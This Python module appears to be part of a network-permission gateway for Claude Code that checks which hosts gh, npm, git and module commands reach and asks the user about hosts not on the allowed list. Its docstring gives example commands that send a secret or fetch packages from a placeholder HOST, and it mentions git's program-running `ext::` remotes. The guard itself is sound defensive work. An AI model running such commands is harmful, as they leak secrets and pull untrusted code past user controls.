"""URLs are network: the arguments a tool reaches over the network, and their hosts.

`gh api 'http://HOST/?k=<secret>'`, `npm view http://HOST/x.tgz`, `npm view git+http://HOST/x`
reach any host although the catalogue allows the commands (they read). A tool's own default
registry or service is not an arbitrary host; an explicit URL or remote is. The rules'
`remote_arguments` (rules/default.yaml) say, per tool and subcommand, how its words are read
(url, package, requirement, module, remote) and which options take a URL or a host; a host
the user has not allowed (Claude Code's `sandbox.network.allowedDomains` and `WebFetch(domain:
...)` allow rules, gateway.settings) asks GW505, in the exposure judgement too (the PreToolUse
hook asks GW851). A remote that runs a program (git's `ext::`) or a spelling whose host cannot
be read asks as well.
"""

PHASE = "5"
CODE = "GW505"
#: npm's hosted-git shorthands and the host each one means.
_SHORTHANDS = {"github:": "github.com", "gitlab:": "gitlab.com", "bitbucket:": "bitbucket.org",
               "gist:": "gist.github.com"}


def _entry(policy, argv):
    """(key, entry) of the most specific `remote_arguments` entry for argv, or None."""
    table = getattr(policy, "remote_arguments", None) or {}
    if not table or not argv:
        return None
    name = argv[0].rsplit("/", 1)[-1].lower()
    words = [w for w in argv[1:] if not w.startswith("-")]
    for n in (3, 2, 1):
        key = " ".join([name] + words[:n - 1])
        if len(words) >= n - 1 and key in table:
            return key, table[key], n - 1
    return None


def _url_host(word):
    """The host of `scheme://[user@]host[:port]/...`, "" when there is none."""
    rest = word.split("://", 1)[1]
    auth = rest.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
    host = auth.rsplit("@", 1)[-1]
    if host.startswith("["):
        return host[1:].split("]", 1)[0].lower()
    return host.split(":", 1)[0].lower()


def _scp_host(word):
    """git's `[user@]host:path` (no slash before the colon), or None."""
    head, sep, _ = word.partition(":")
    if not sep or "/" in head or not head:
        return None
    return head.rsplit("@", 1)[-1].lower()


def remotes(kind, word):
    """[(host or "", why)] the word reaches as an argument of this kind; "" is a host that
    cannot be read (asks whatever the allowed hosts)."""
    low = word.lower()
    if "://" in word:
        scheme = low.split("://", 1)[0]
        if scheme.endswith("file"):
            return []  # a local file (file://, git+file://)
        return [(_url_host(word), f"the URL {word!r}")]
    if kind == "url":
        return []
    if kind == "remote":
        if low.startswith("ext::") or low.startswith("fd::"):
            return [("", f"the remote {word!r} runs a program (a remote helper)")]
        host = _scp_host(word)
        if host is not None and not word.startswith(("./", "/", "../")):
            return [(host, f"the remote {word!r}")]
        return []
    if kind == "package":
        for prefix, host in _SHORTHANDS.items():
            if low.startswith(prefix):
                return [(host, f"the package {word!r} ({prefix} means {host})")]
        if low.startswith("git@") or low.startswith("git+"):
            host = _scp_host(word.split("+", 1)[-1]) if "://" not in word else None
            return [(host or "", f"the package {word!r}")]
        if (word.count("/") == 1 and not word.startswith(("@", ".", "/", "~"))
                and ":" not in word and "@" not in word.split("/", 1)[0]):
            return [("github.com", f"the package {word!r} (user/repo means a GitHub "
                                   "repository)")]
        return []
    if kind == "module":
        first = word.split("/", 1)[0].split("@", 1)[0].lower()
        if "." in first and first not in ("", ".", ".."):
            return [(first, f"the module {word!r}")]
        return []
    return []


def _flag_host(flag, value):
    """The host an option's value names (a URL, host/owner/repo, or a host name)."""
    if "://" in value:
        return _url_host(value)
    parts = value.split("/")
    if len(parts) >= 3 and ("." in parts[0] or ":" in parts[0]):
        return parts[0].split(":", 1)[0].lower()
    if flag in ("--hostname", "--trusted-host") or ("/" not in value and "." in value):
        return value.split(":", 1)[0].lower()
    return None


def _git_globals(argv):
    """git's argv without its global options before the subcommand (-C DIR, -c K=V,
    --git-dir=...): the subcommand is then the first word."""
    out = [argv[0]]
    i = 1
    while i < len(argv) and argv[i].startswith("-"):
        w = argv[i]
        i += 2 if w in ("-C", "-c", "--git-dir", "--work-tree", "--namespace",
                        "--exec-path") else 1
    return out + argv[i:]


def targets(policy, argv):
    """[(host, why)] the command reaches beyond its tool's own hosts, by its arguments."""
    if argv and argv[0].rsplit("/", 1)[-1] == "git":
        argv = _git_globals(argv)
    found = _entry(policy, argv)
    if found is None:
        return []
    key, entry, skip = found
    kind = entry.get("arguments", "none")
    positions = entry.get("positions")
    flags = set(entry.get("flags", ()))
    own = {h.lower() for h in entry.get("hosts", ())}
    command_at = entry.get("command_at")
    out = []
    words = argv[1:]
    seen_sub = 0
    index = 0
    i = 0
    while i < len(words):
        w = words[i]
        i += 1
        name, eq, value = w.partition("=")
        if w.startswith("-") and len(w) > 1:
            if name in flags or (name.startswith("--") and any(
                    f.startswith(name) and len(name) > 3 for f in flags if f.startswith("--"))):
                if not eq and i < len(words):
                    value = words[i]
                    i += 1
                host = _flag_host(name, value) if value else None
                if host is not None:
                    out.append((host, f"{name} {value!r}"))
            elif eq and "://" in value:
                out.append((_url_host(value), f"{name}={value!r}"))
            continue
        if seen_sub < skip:
            seen_sub += 1
            continue
        index += 1
        if positions is None or index - 1 in positions:
            out.extend(remotes(kind, w))
        if command_at is not None and index - 1 >= command_at:
            break  # the rest is the command's own arguments (npx PKG ARGS...)
    return [(h, why) for h, why in out if h == "" or h not in own]


def allowed(host, hosts) -> bool:
    """Is `host` among the allowed `hosts` (exact, or below a `*.domain` entry)?"""
    if not host:
        return False
    for h in hosts:
        h = h.lower().strip()
        if not h:
            continue
        if h.startswith("*."):
            if host == h[2:] or host.endswith(h[1:]):
                return True
        elif host == h:
            return True
    return False


def check(ctx, argv):
    """The ask for a command that reaches a host the user has not allowed, or None."""
    found = targets(ctx.policy, argv)
    if not found:
        return None
    hosts = getattr(ctx.settings, "hosts", ()) or ()
    for host, why in found:
        if allowed(host, hosts):
            continue
        where = f"the host {host}" if host else "a host that cannot be read off it"
        return ctx.ask(PHASE, CODE, f"{argv[0]} reaches {where} over the network ({why}); "
                       "URLs and remotes are network to a host the user has not allowed (add "
                       "it to sandbox.network.allowedDomains or a WebFetch(domain:...) allow "
                       "rule in Claude Code's settings to allow it)",
                       rule=f"network:{host or '?'}")
    return None
